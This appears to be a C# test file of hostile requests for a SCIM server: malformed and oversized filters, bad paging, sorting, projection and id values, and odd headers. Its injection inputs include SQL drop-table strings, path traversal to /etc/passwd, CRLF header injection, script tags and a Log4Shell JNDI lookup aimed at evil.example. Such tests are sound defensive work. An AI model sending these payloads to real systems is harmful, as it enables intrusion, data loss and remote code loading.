using static Scim.Tests.Hostile.HostileRequest;

namespace Scim.Tests.Hostile;

/// <summary>Queries, ids and headers that nobody means well with.</summary>
internal static class HostileQueries
{
    public static IEnumerable<HostileRequest> All => [.. Filters, .. FilterTexts, .. Paging, .. Sorting, .. Projections, .. Ids, .. Headers];

    private static IEnumerable<HostileRequest> Filters =>
    [
        .. ((string[])
        [
            "userName", "userName eq", "userName eq ", "eq", "userName eq ann", "userName = \"ann\"", "userName eq 'ann'", "userName eq \"ann", "userName eq \"ann\" and", "and userName pr", "userName eq \"a\" userName pr",
            "(userName pr", "userName pr)", "()", "not userName pr", "not (userName pr", "emails[", "emails[]", "emails[type eq \"work\"", "emails[type eq \"work\"].", "emails[emails[type pr]]", "userName eq \"\\x\"",
            "userName eq \"\\ud800\"", "userName eq \"\\u0000\"", "userName gt true", "active gt true", "active eq \"maybe\"", "meta.created gt \"yesterday\"", "nothing pr", "userName.x pr", "a.b.c pr", "urn:x:y pr", ":userName pr",
            "userName eq 1e", "userName eq 01", "userName eq NaN", "userName EQ", "userName eq \"a\"\"b\"", "userName eq \"a\" or or userName pr", "userName pr;", "userName pr -- ", "userName pr\0", "*", "1 eq 1", "true", "userName eq \"a\r\n\"",
            "userName eq \"\u0000\"", "userName\u00a0pr", "\ud83d\ude00 pr",
        ])
        .Select((filter, i) => Filter($"filter {i}", filter)),
        Filter("filter of 10 000 terms", Chain("id pr", " or ", 10_000)),
        Filter("filter of 5000 ands", Chain("title pr", " and ", 5000)),
        Filter("filter of 700 terms", Chain("id pr", " or ", 700), Due.Success),
        Filter("filter of 600 terms by and", Chain("title pr", " and ", 600), Due.Success),
        Filter("element of 600 terms", $"emails[{Chain("type pr", " or ", 600)}]", Due.Success),
        Filter("element of 600 terms by and", $"emails[{Chain("type pr", " and ", 600)}]", Due.Success),
        Filter("members of 600 terms", $"members[{Chain("type pr", " or ", 600)}]", Due.Success, "Groups"),
        Filter("ands and ors by turns", Chain("id pr and title pr or nickName pr", " and ", 200), Due.Success),
        Filter("filter 1000 parentheses deep", $"{new string('(', 1000)}userName pr{new string(')', 1000)}"),
        Filter("filter 60 000 parentheses deep", new string('(', 60_000)),
        Filter("filter of 500 negations", $"{Chain("not (", "", 500)}userName pr{new string(')', 500)}"),
        Filter("filter 30 negations deep", $"{Chain("not (", "", 30)}userName pr{new string(')', 30)}", Due.Success),
        Filter("literal of 100 KB", $"userName eq \"{new string('x', 100_000)}\""),
        Filter("attribute of 100 KB", $"{new string('x', 100_000)} pr"),
        Get("filter of bytes that are no UTF-8", "Users?filter=locale%20eq%20%22%ed%a0%80%ff%22", Due.Success),
        Get("filter half encoded", "Users?filter=userName%20eq%20%2", Due.Refusal),
        Get("filter twice", "Users?filter=userName%20pr&filter=nothing", Due.Success),
        Get("filter for the schemas", "Schemas?filter=id%20pr", Due.Refusal),
    ];

    private static IEnumerable<HostileRequest> FilterTexts =>
        from pair in HostileTexts.All.Select((text, i) => (Text: text, Index: i))
        from comparison in (string[])["eq", "co", "sw", "ew", "gt"]
        select Filter($"filter {comparison} text {pair.Index}", $"locale {comparison} {System.Text.Json.JsonSerializer.Serialize(pair.Text)}", Due.Success);

    private static IEnumerable<HostileRequest> Paging =>
    [
        .. from name in (string[])["startIndex", "count"]
           from value in (string[])["-1", "0", "-2147483648", "2147483647", "2147483648", "9223372036854775807", "-9223372036854775808", "", " ", " 1 "]
           select Get($"{name}={value}", $"Users?{name}={Uri.EscapeDataString(value)}", Due.Success),
        .. from name in (string[])["startIndex", "count"]
           from value in (string[])["9223372036854775808", "1.5", "1e3", "NaN", "abc", "0x10", "--1", "1;drop table resource", "١", "1,2", "null", "\0", new string('9', 10_000)]
           select Get($"{name}={value[..Math.Min(value.Length, 20)].Replace("\0", "\\0", StringComparison.Ordinal)}", $"Groups?{name}={Uri.EscapeDataString(value)}"),
    ];

    private static IEnumerable<HostileRequest> Sorting =>
    [
        .. ((string[])["nothing", "id or 1=1", "'; drop table resource; --", "userName,title", "emails[type eq \"work\"]", "a.b.c", "name", "meta", "userName desc", "1", "*", "\0", "(select 1)", new string('s', 100_000)])
            .Select((by, i) => Get($"sortBy {i}", $"Users?sortBy={Uri.EscapeDataString(by)}")),
        .. ((string[])["meta.lastModified", "EMAILS", "urn:ietf:params:scim:schemas:extension:enterprise:2.0:User:department", "id"])
            .Select((by, i) => Get($"sortBy, legal {i}", $"Users?sortBy={Uri.EscapeDataString(by)}&sortOrder=DESCENDING", Due.Success)),
        .. ((string[])["up", "asc", "ascending; drop table resource", "1", "\0"])
            .Select((order, i) => Get($"sortOrder {i}", $"Users?sortBy=userName&sortOrder={Uri.EscapeDataString(order)}")),
    ];

    private static IEnumerable<HostileRequest> Projections =>
    [
        .. from parameter in (string[])["attributes", "excludedAttributes"]
           from value in (string[])["a b", "a.b.c", "userName'--", "*", ":", "::", ".", "..", "userName.", ".userName", "emails[type eq \"work\"]", "\0", "<script>", "1", "(select 1)", "\U0001F4A9"]
           select Get($"{parameter}={value.Replace("\0", "\\0", StringComparison.Ordinal)}", $"Users/{{user}}?{parameter}={Uri.EscapeDataString(value)}"),
        .. from parameter in (string[])["attributes", "excludedAttributes"]
           from value in (string[])["", ",", ",,,", " ", "nothing", "urn:nobody:x", "password", "members", Chain("userName", ",", 10_000), Chain("nothing", ",", 10_000), new string('x', 100_000)]
           select Get($"{parameter}, legal, {value[..Math.Min(20, value.Length)]} {value.Length}", $"Users/{{user}}?{parameter}={Uri.EscapeDataString(value)}", Due.Success),
        Get("both projections", "Users?attributes=userName&excludedAttributes=title"),
        Post("bad projection on a POST", "Users?attributes=a%20b", """{"userName":"never-made"}"""),
        Patch("bad projection on a PATCH", "Users/{user}?excludedAttributes=%2a", """{"op":"add","path":"title","value":"never set"}"""),
    ];

    private static IEnumerable<HostileRequest> Ids =>
        from id in (string[])
        [
            "..%2f..%2fetc%2fpasswd", "%2e%2e%5c%2e%2e", "'%3b%20drop%20table%20resource%3b%20--", "%27%20or%20%271%27=%271", "nobody", "-1", "0", "null", "undefined", "%7b%7d", "*", "%0d%0aX-Evil:%201",
            "%3cscript%3e", ";", "%25", "%25%30%30", "%ff", "%ed%a0%80", "urn:x:y", "a%2fb", "%20", "%e2%80%ae", "true", new string('a', 10_000), new string('b', 200_000),
        ]
        from target in (string[])["GET Users", "PATCH Users", "PUT Users", "DELETE Users", "GET Groups", "PATCH Groups", "DELETE Groups", "GET Schemas", "GET ResourceTypes"]
        let parts = target.Split(' ')
        let body = parts[0] switch
        {
            "PATCH" => """{"Operations":[{"op":"replace","path":"externalId","value":"x"}]}""",
            "PUT" => """{"userName":"x"}""",
            _ => null,
        }
        select new HostileRequest($"{target}/{id[..Math.Min(30, id.Length)]} {id.Length}", parts[0], $"{parts[1]}/{id}", body is null ? null : () => Bytes(body));

    private static IEnumerable<HostileRequest> Headers =>
    [
        .. ((string[])["Bearer", "Bearer ", "bearer x", "Basic YTpi", "Bearer a b c", "Bearer ' or '1'='1", "Negotiate", "x", $"Bearer {new string('t', 20_000)}"])
            .Select((value, i) => Get($"authorization {i}", "Users") with { Headers = [("Authorization", value)] }),
        .. ((string[])["'; drop table resource; --", "<script>", "${jndi:ldap://evil.example/a}", "*", "W/\"x\", \"", new string('h', 20_000)])
            .SelectMany((value, i) => ((string[])["client-request-id", "traceparent", "User-Agent", "Accept", "If-None-Match", "X-Forwarded-For", "X-HTTP-Method-Override", "Accept-Language"])
                .Select(name => Get($"{name} {i}", "Users?count=0", Due.Success) with { Headers = [(name, value)] })),
        new("TRACE", "TRACE", "Users"),
        new("method nobody knows", "FROB", "Users"),
        Get("Users beyond Users", "Users/{user}/x"),
        Get("version 1", "../v1/Users"),
    ];

    private static HostileRequest Filter(string name, string filter, Due due = Due.Refusal, string endpoint = "Users") =>
        Get(name, $"{endpoint}?filter={Uri.EscapeDataString(filter)}", due);

    private static string Chain(string term, string between, int times) => string.Join(between, Enumerable.Repeat(term, times));
}
